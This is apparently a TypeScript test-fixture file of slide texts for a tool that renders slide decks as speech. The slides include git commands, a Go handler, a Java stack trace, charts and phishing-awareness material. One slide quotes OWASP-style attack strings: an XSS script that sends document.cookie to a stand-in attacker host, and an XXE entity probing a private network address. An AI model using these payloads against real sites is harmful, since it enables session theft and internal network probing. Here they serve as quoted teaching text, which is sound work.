import type { DeckSlideText } from '../ports/deck-reader.ts';

// Text-level slides of the kinds people do not read aloud as written: code, commands, stack traces,
// charts, two boxes side by side, furniture on every slide. Lines are what the readers hand the model.

const slide = (number: number, title: string, lines: string[], notes = ''): DeckSlideText => ({
  number,
  title,
  text: lines.join('\n'),
  notes,
  lines: lines.map((text) => ({ text, level: 0 })),
});

/** Git configuration as the Microsoft workshop shows it: shell commands under their comments. */
export const gitConfigSlide = slide(3, 'First Time Git Configuration', [
  '# sets up Git with your name',
  'git config --global user.name "<Your-Full-Name>"',
  '# sets up Git with your email',
  'git config --global user.email "<your-email-address>"',
]);

/** A Go handler beside one line of prose. */
export const goHandlerSlide = slide(4, 'Escaping output in a web handler', [
  'Always escape what you write into a page.',
  'func handler(w http.ResponseWriter, r *http.Request) {',
  '  name := r.URL.Query().Get("name")',
  '  fmt.Fprintf(w, "Hello %s", html.EscapeString(name))',
  '}',
]);

/** An XML catalog from the OSCAL deck's kind of slide. */
export const xmlSlide = slide(5, 'An OSCAL catalog', [
  'A catalog lists the controls.',
  '<catalog id="sp800-53" xmlns="http://csrc.nist.gov/ns/oscal/1.0">',
  '<control id="ac-1" class="SP800-53">',
  '</catalog>',
]);

/** Attack strings inside the prose of a scenario (as the OWASP Top 10 2017 pages give them). */
export const attackScenarioSlide = slide(7, 'Example attack scenarios', [
  'The attacker modifies the \'CC\' parameter in the browser to: \'><script>document.location= \'http://www.attacker.com/cgi-bin/cookie.cgi? foo=\'+document.cookie</script>\'.',
  'This causes the victim\'s session ID to be sent to the attacker\'s website.',
  'An attacker probes the server\'s private network by changing the above ENTITY line to:',
  '<!ENTITY xxe SYSTEM "https://192.168.1.1/private" >]>',
]);

/** A Java stack trace shown to explain error handling. */
export const stackTraceSlide = slide(6, 'Do not show stack traces to users', [
  'Error messages reveal how the application is built.',
  'java.lang.NullPointerException: name is null',
  'at com.acme.shop.Cart.add(Cart.java:42)',
  'at com.acme.shop.CartServlet.doPost(CartServlet.java:17)',
]);

/** A bar chart exported with its axis numbers, and a statistics row of figures over their captions. */
export const chartSlide = slide(7, 'Reported incidents per quarter', ['0', '25', '50', '75', '100', 'Phishing reports grew every quarter']);
export const figuresSlide: DeckSlideText = {
  number: 8,
  title: 'How attacks start',
  text: '70%\nEmail phishing\n20%\nFake websites',
  notes: '',
  lines: [
    { text: '70%', level: 0, block: 0 },
    { text: 'Email phishing', level: 0, block: 0 },
    { text: '20%', level: 0, block: 1 },
    { text: 'Fake websites', level: 0, block: 1 },
  ],
};

/** Two technique boxes side by side, each a title and a short phrase: never said as one sentence or list. */
export const twoBoxesSlide: DeckSlideText = {
  number: 9,
  title: 'Phishing techniques',
  text: 'Clone phishing\nA copy of a real message\nVishing\nVoice calls',
  notes: '',
  lines: [
    { text: 'Clone phishing', level: 0, block: 0 },
    { text: 'A copy of a real message', level: 0, block: 0 },
    { text: 'Vishing', level: 0, block: 1 },
    { text: 'Voice calls', level: 0, block: 1 },
  ],
};

/** Template traps: a noun phrase the tagger takes for a verb, a heading with a colon, a sign that is no number. */
export const templateTrapsSlide = slide(10, 'Privacy tools', [
  'Access Controls',
  'I2P-Bote (Beta)',
  'Check the Sender: verify the address before you reply',
  '0 = Accept cookies normally',
  'Lock your screen when you leave your desk',
]);

/** Speaker notes with the presenter's stage directions, and a slide with a web address and an e-mail address. */
export const notesSlide = slide(
  11,
  'Report it',
  ['For more details, read the https://www.owasp.org/index.php/Phishing_Cheat_Sheet', 'Questions: security@acme.test'],
  '[click]\nReport every suspicious message to the security team. (pause)\nNext slide\nANIMATION: arrows fly in\nDemo: open the mail client and show the report button',
);

/** A deck whose every slide carries the same footer and a slide number. */
export const footerDeck: DeckSlideText[] = [1, 2, 3, 4, 5].map((n) =>
  slide(n, `Topic ${['one', 'two', 'three', 'four', 'five'][n - 1]}`, [`Point ${n} explains something important about phishing`, '© 2024 Acme Security Conference', `${n}`]),
);

/** Headings with a colon, as the NIST OSCAL deck writes its roles and components. */
export const headingsSlide = slide(12, 'Roles and components', [
  'Catalog: Defines a set of security controls',
  'Auditors/assessors: perform audits on demand with minimal effort',
  'Recommendations: Avoid the interpreter entirely',
  'Most Severe: Install a proxy that watches every user',
]);
